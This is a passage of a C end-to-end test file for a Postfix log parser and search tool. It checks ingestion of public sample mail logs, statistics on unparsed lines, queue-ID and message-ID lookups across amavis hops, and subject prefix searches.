	assert_int_equal(tl_mtalog(&out, &err, "--db %s stats --json", fdb), 0);
	json_error_t je;
	json_t *s = json_loads(out, 0, &je);
	assert_non_null(s);
	assert_int_equal(json_integer_value(json_object_get(json_object_get(s, "lines_not_understood"), "total")), 0);
	json_decref(s);
	free(out); free(err);
}

/* Every Postfix syslog file of the corpus: each line is an event or a known
 * skip.  What remains not understood are the 519 lines of modoboa/mail.log,
 * whose date is the template placeholder "%(day)s", and the damaged first line
 * of youyo-postfix-log-parser/test-milter.log ("021-02-06T...": its year lost a
 * digit): lines without a time cannot be placed. */
static void corpus_sweep(void **state)
{
	(void)state;
	static const char *const files[] = {
		"postfix-logsums/mail.log", "digineo-postfix_exporter/mail.log",
		"youyo-postfix-log-parser/test.log", "youyo-postfix-log-parser/test-iso8601.log",
		"youyo-postfix-log-parser/test-milter.log", "maillogger/maillog.log",
		"inqueue-postfix-ecs-pipeline/mail.log", "msimerson-log-ship-elastic-postfix/mail.log",
		"modoboa/mail.log", "fail2ban/postfix.log", "crowdsec-hub/postfix-logs/postfix-logs.log",
		"crowdsec-hub/postfix-helo/postfix-spam.log", "crowdsec-hub/postfix-honeypot-users/postfix-honeypot-users.log",
		"crowdsec-hub/postfix-non-smtp/postfix-non-smtp.log", "crowdsec-hub/postfix-relay/postfix-spam.log",
		"crowdsec-hub/postfix-sasl-bf/postfix-sasl-bf.log", "crowdsec-hub/postfix-spam/postfix-spam.log",
		"crowdsec-hub/postscreen-logs/postscreen-logs.log", "datadog-integrations-core/postfix_tests.log",
	};
	char cdb[4300], args[16384] = "";
	snprintf(cdb, sizeof cdb, "%s/corpus.db", dir);
	for (size_t i = 0; i < ML_ARRAY_LEN(files); i++) {
		size_t l = strlen(args);
		snprintf(args + l, sizeof args - l, " %s", tl_corpus(files[i]));
	}
	char *out, *err;
	assert_int_equal(tl_mtalog(&out, &err, "--db %s ingest --quiet %s", cdb, args), 0);
	free(out); free(err);
	assert_int_equal(tl_mtalog(&out, &err, "--db %s stats --json", cdb), 0);
	json_error_t je;
	json_t *s = json_loads(out, 0, &je);
	assert_non_null(s);
	json_t *bad = json_object_get(s, "lines_not_understood");
	assert_int_equal(json_integer_value(json_object_get(bad, "total")), 520);
	json_t *bt = json_object_get(json_object_get(bad, "by_reason"), "bad timestamp");
	assert_int_equal(json_integer_value(json_object_get(bt, "count")), 520);
	assert_int_equal(json_object_size(json_object_get(bad, "by_reason")), 1);
	assert_true(json_integer_value(json_object_get(s, "lines_parsed")) > 2000);
	/* a mail that passed amavis is one message, not two */
	assert_true(json_integer_value(json_object_get(s, "messages")) > 300);
	json_decref(s);
	free(out); free(err);
	/* and the real log answers questions */
	json_t *r = NULL;
	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --json --queue-id 4Pd1Xm2NF8z3tG3", cdb), 0);
	r = json_loads(out, 0, &je);
	assert_non_null(r);
	assert_string_equal(sget(r, "to"), "user01.test@uhu-banane.net");
	assert_string_equal(sget(r, "status"), "delivered");
	assert_string_equal(sget(r, "relay"), "dovecot");
	json_decref(r);
	free(out); free(err);
	/* postfix → amavis → postfix: the first hop's queue ID finds the last
	 * hop's row (the final fate), with the client and the original address
	 * of the first hop; the row that went to the filter is not shown */
	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --json --queue-id 4PbC4x469Jz3tBr", cdb), 0);
	assert_int_equal(tl_count_lines(out), 1);
	r = json_loads(out, 0, &je);
	assert_non_null(r);
	assert_string_equal(sget(r, "queue_id"), "4PbC4z6W5Qz3tG3");
	assert_string_equal(sget(r, "relay"), "dovecot");
	assert_string_equal(sget(r, "orig_to"), "frank@brehm-berlin.de");
	assert_string_equal(sget(r, "client_ip"), "185.31.160.120");
	char id[32];
	snprintf(id, sizeof id, "%s", sget(r, "id"));
	json_decref(r);
	free(out); free(err);
	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --json --msgid 71816687N65284230Y01410375Q67285060N@ajmyjyz", cdb), 0);
	assert_int_equal(tl_count_lines(out), 1);
	free(out); free(err);
	/* the second hop's own queue ID finds the same row */
	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --json --queue-id 4PbC4z6W5Qz3tG3", cdb), 0);
	assert_int_equal(tl_count_lines(out), 1);
	assert_non_null(strstr(out, id));
	free(out); free(err);
	expect_amavis_chain(cdb, id, "4PbC4x469Jz3tBr");
}

/* The ids of a --json search, sorted, as one string. */
static char *ids_of(const char *dbpath, const char *args)
{
	char *out, *err;
	if (tl_mtalog(&out, &err, "--db %s search --json %s", dbpath, args))
		fail_msg("search %s: %s", args, err);
	free(err);
	json_t *arr = json_array();
	char *save = NULL;
	for (char *line = strtok_r(out, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		json_error_t je;
		json_t *j = json_loads(line, 0, &je);
		assert_non_null(j);
		char key[80];
		snprintf(key, sizeof key, "%s/%s", sget(j, "id"), sget(j, "to"));
		json_array_append_new(arr, json_string(key));
		json_decref(j);
	}
	free(out);
	ml_buf_t b = ML_BUF_INIT;
	size_t n = json_array_size(arr);
	const char **v = calloc(n + 1, sizeof *v);
	for (size_t i = 0; i < n; i++)
		v[i] = json_string_value(json_array_get(arr, i));
	qsort(v, n, sizeof *v, (int (*)(const void *, const void *))strcmp_ptr);
	for (size_t i = 0; i < n; i++)
		ml_buf_printf(&b, "%s\n", v[i]);
	free(v);
	json_decref(arr);
	return (char *)ml_buf_cstr(&b);
}

/* Subject word prefixes: "invoic*" finds the subjects with a word that
 * starts with it, through the index; the same rows as a regex that says
 * so, checked on every subject. */
static void subject_prefixes(void **state)
{
	(void)state;
	assert_int_equal(count("--subject %s", "'quart*'"), 1);
	assert_int_equal(count("--subject %s", "'quart* äpf*'"), 1);
	assert_int_equal(count("--subject %s", "'Quarterly* repo*'"), 1);
	assert_int_equal(count("--subject %s", "'quartz*'"), 0);
	assert_int_equal(count("--subject %s", "'uarter*'"), 0);   /* a prefix, not a substring */
	assert_int_equal(count("--subject %s", "'\"quart*\"'"), 0);  /* quoted: a phrase, as written */
	/* the sample: real words, against a regex on every subject (a word
	 * starts where no letter, digit or non-ASCII character is before it) */
	char sdb[4300];
	snprintf(sdb, sizeof sdb, "%s/sample.db", dir);
	char *err;
	if (tl_mtalog(NULL, &err, "--db %s ingest --quiet sample/mail.log", sdb))
		fail_msg("ingest: %s", err);
	free(err);
	static const char *const prefixes[] = { "invoic", "meet", "updat", "abwes", "draf", "evaluat", "contr" };
	for (size_t i = 0; i < ML_ARRAY_LEN(prefixes); i++) {
		char a1[256], a2[256];
		snprintf(a1, sizeof a1, "--subject '%s*'", prefixes[i]);
		snprintf(a2, sizeof a2, "--subject-re '(?<![a-z0-9\\x{80}-\\x{10ffff}])%s'", prefixes[i]);
		char *got = ids_of(sdb, a1), *want = ids_of(sdb, a2);
		if (strcmp(got, want) || tl_count_lines(got) < 10)
			fail_msg("%s: %zu rows, the regex %zu", a1, tl_count_lines(got), tl_count_lines(want));
		free(got);
		free(want);
	}
	/* with another filter, and with a plain word */
	char *got = ids_of(sdb, "--subject 'invoic* 2026' --status delivered");
	char *want = ids_of(sdb, "--subject-re '(?<![a-z0-9\\x{80}-\\x{10ffff}])invoic' --subject 2026 --status delivered");
	assert_string_equal(got, want);
	assert_true(tl_count_lines(got) > 0);
	free(got);
	free(want);
	/* a prefix of more words in a day than a search walks: checked on the
	 * records of the other filters' rows, and the answer says so */
	char log[4300], cdb[4300];
	snprintf(log, sizeof log, "%s/words.log", dir);
	snprintf(cdb, sizeof cdb, "%s/words.db", dir);
	ml_buf_t b = ML_BUF_INIT;
	for (int m = 0; m < 300; m++) {
		int mi = m / 60, se = m % 60;
		ml_buf_printf(&b, "Mar  3 11:%02d:%02d mx1 postfix/cleanup[1002]: A%09X: message-id=<w%d@sender.example>\n"
		              "Mar  3 11:%02d:%02d mx1 postfix/cleanup[1002]: A%09X: info: header Subject: "
		              "Zqword%03d and more from mail.sender.example[192.0.2.10]; from=<alice@sender.example> "
		              "to=<bob@example.com> proto=ESMTP helo=<mail.sender.example>\n"
		              "Mar  3 11:%02d:%02d mx1 postfix/qmgr[1003]: A%09X: from=<alice@sender.example>, size=100, nrcpt=1 (queue active)\n"
		              "Mar  3 11:%02d:%02d mx1 postfix/lmtp[1004]: A%09X: to=<bob@example.com>, relay=store[192.0.2.40]:24, "
		              "delay=1, delays=0/0/0/1, dsn=2.0.0, status=sent (250 2.0.0 Ok)\n"
		              "Mar  3 11:%02d:%02d mx1 postfix/qmgr[1003]: A%09X: removed\n",
		              mi, se, m, m, mi, se, m, m, mi, se, m, mi, se, m, mi, se, m);
	}
	tl_write_file(log, b.data, b.len);
	ml_buf_free(&b);
	if (tl_mtalog(NULL, &err, "--db %s ingest --quiet --year 2026 %s", cdb, log))
		fail_msg("ingest: %s", err);
	free(err);
	char *out;
	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --subject 'zqw*'", cdb), 0);
	assert_int_equal(tl_count_lines(out), 301);
	assert_non_null(strstr(err, "300 rows"));
	assert_non_null(strstr(err, "prefix*"));
	free(out); free(err);
	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --subject 'zqword01* more'", cdb), 0);
	assert_int_equal(tl_count_lines(out), 11);
	assert_null(strstr(err, "prefix*"));
	free(out); free(err);
	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --subject 'zqw* and'", cdb), 0);
	assert_int_equal(tl_count_lines(out), 301);
	free(out); free(err);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(every_status),
		cmocka_unit_test(search_flags),
		cmocka_unit_test(json_keys_and_subjects),
		cmocka_unit_test(cjk_subjects),
		cmocka_unit_test(csv_and_table),
		cmocka_unit_test(csv_formulas),
		cmocka_unit_test(show_message),
		cmocka_unit_test(local_time),
		cmocka_unit_test(stats_counts),
		cmocka_unit_test(words_for_people),
		cmocka_unit_test(content_filters),
		cmocka_unit_test(subject_prefixes),
	};
	const struct CMUnitTest corpus_tests[] = {
		cmocka_unit_test(corpus_sweep),
	};
	return TL_RUN("e2e", tests, corpus_tests, setup, teardown);
}
